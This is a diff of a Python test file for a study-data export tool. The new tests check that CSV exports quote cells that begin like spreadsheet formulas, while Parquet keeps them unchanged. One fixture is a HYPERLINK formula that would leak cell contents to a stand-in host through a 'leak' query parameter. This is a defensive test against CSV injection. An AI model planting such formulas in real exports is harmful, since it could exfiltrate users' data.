@@ -11,7 +11,9 @@ import frictionless
 import pandas as pd
 import pyarrow.parquet as pq
 
+from bridgework.practice.models import CheckInScale, PracticeLog
 from bridgework.research.export.tables import TABLES
+from bridgework.research.export.writers import csv_safe
 from bridgework.research.tests.helpers import (
     NOTE,
     TAKEAWAY,
@@ -29,17 +31,47 @@ def file_columns(out: Path, name: str, fmt: str) -> list[str]:
     return list(pq.read_schema(out / f"{name}.parquet").names)
 
 
+FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1, "my notes")'
+
+
+def as_in_csv(frame: pd.DataFrame, name: str) -> pd.DataFrame:
+    """A table as its CSV holds it: words that start like a formula quoted (writers.csv_safe)."""
+    for column in TABLES[name].columns:
+        if column.may_hold_words and column.name in frame:
+            frame[column.name] = pd.Series(
+                [csv_safe(v) for v in frame[column.name]], dtype=object, index=frame.index
+            )
+    return frame
+
+
 def count(db: duckdb.DuckDBPyConnection, sql: str) -> int:
     return int(db.execute(sql).fetchall()[0][0])
 
 
 class FormatTests(ExportTestCase):
     def test_csv_and_parquet_give_the_same_data(self) -> None:
+        for free_text in (False, True):
+            self.study.include_free_text = free_text
+            PracticeLog.objects.update(note=FORMULA)
+            as_csv, _ = export(self.study, "csv")
+            as_parquet, _ = export(self.study, "parquet")
+            for name in TABLES:
+                with self.subTest(table=name, free_text=free_text):
+                    pd.testing.assert_frame_equal(
+                        load(as_csv, name), as_in_csv(load(as_parquet, name), name)
+                    )
+
+    def test_a_csv_cell_that_starts_like_a_formula_is_quoted_and_parquet_keeps_it(self) -> None:
+        self.study.include_free_text = True
+        PracticeLog.objects.update(note=FORMULA)
+        CheckInScale.objects.update(name="@anxiety")
         as_csv, _ = export(self.study, "csv")
         as_parquet, _ = export(self.study, "parquet")
-        for name in TABLES:
-            with self.subTest(table=name):
-                pd.testing.assert_frame_equal(load(as_csv, name), load(as_parquet, name))
+        self.assertEqual(set(load(as_csv, "practice_logs")["note"]), {"'" + FORMULA})
+        self.assertEqual(set(load(as_parquet, "practice_logs")["note"]), {FORMULA})
+        self.assertIn("'@anxiety", set(load(as_csv, "ratings")["scale"]))
+        self.assertIn("@anxiety", set(load(as_parquet, "ratings")["scale"]))
+        self.assertNotIn("'", "".join(load(as_csv, "ratings")["rating_id"]))  # pseudonyms
 
     def test_the_codebook_lists_every_column_of_every_file_and_nothing_else(self) -> None:
         for fmt in ("csv", "parquet"):
